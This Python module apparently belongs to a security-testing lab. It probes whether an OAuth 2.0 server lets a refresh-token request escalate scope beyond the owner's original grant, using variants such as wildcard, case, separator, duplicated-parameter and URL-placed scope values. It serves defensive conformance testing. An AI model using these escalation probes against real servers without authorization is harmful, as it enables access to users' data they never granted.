"""Renew a token that may do little into one that may do all.

Exploits a server that lets a renewal say what the new token is for. The program that was let in to
read the data asks for more, and the owner, who let it in, is not asked again.
Source: RFC 6749, section 6 Refreshing an Access Token,
https://www.rfc-editor.org/rfc/rfc6749#section-6
ASVS: 10.3.2
"""

from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in
from attacks.lab.scopes import MORE, SMALL, in_the_url, more_than_small, must_grant_scopes
from attacks.lab.target import Field, NotApplicableError, Person, Target, newest

ALL = f"{SMALL} users:read {MORE}"
WISHES: dict[str, Field] = {
    "for all": ALL,
    "for something else": MORE,
    "for nothing": "",
    "for a blank": " ",
    "for everything there is": "*",
    "in capitals": ALL.upper(),
    "with a tab": ALL.replace(" ", "\t"),
    "with a comma": ALL.replace(" ", ","),
    "twice": [SMALL, ALL],
    "twice, the other way round": [ALL, SMALL],
}


def tricks(target: Target, owner: Person) -> Iterator[tuple[str, httpx.Request]]:
    """Ask for more beside a refresh token that was given for the data alone, a new one each."""

    def own() -> str:
        return target.refresh_token_of(owner, scope=SMALL)

    yield "without a word", target.refresh_request(own())
    for wish, scope in WISHES.items():
        yield wish, target.refresh_request(own(), {"scope": scope})
    yield "in the address", in_the_url(target.refresh_request(own()), ALL)
    names = {"username": owner.username, "password": owner.password, "scope": ALL}
    yield "with name and password", target.refresh_request(own(), names)
    yield "beside a token for all", target.refresh_request(own(), bearer=target.token_of(owner))


def renewals(target: Target, request: httpx.Request) -> Iterator[httpx.Response]:
    """Renew, and renew once more what came of it."""
    answer = target.http.send(request)
    yield answer
    if answer.is_success:
        yield target.refresh(newest(answer, ""))


@attack()
def run(target: Target) -> Outcome:
    """Try one trick after the other; see what the new tokens open."""
    must_grant_scopes(target)
    owner = target.enrol()
    if more_than_small(target, owner, target.tokens_of(owner, scope=SMALL)):
        raise NotApplicableError("a token for the data may do all here, without any renewal")
    if not target.refresh(target.refresh_token_of(owner, scope=SMALL)).is_success:
        raise NotApplicableError("a usual renewal is refused")
    answers = {}
    for trick, request in tricks(target, owner):
        for time, answer in enumerate(renewals(target, request), start=1):
            answers[f"{trick}, renewal {time}"] = answer
            if answer.is_success and (more := more_than_small(target, owner, answer.json())):
                return got_in(f"renewed {trick}: {more}")
    return breakdown(answers, f"{len(answers)} renewals: no token that may do more")
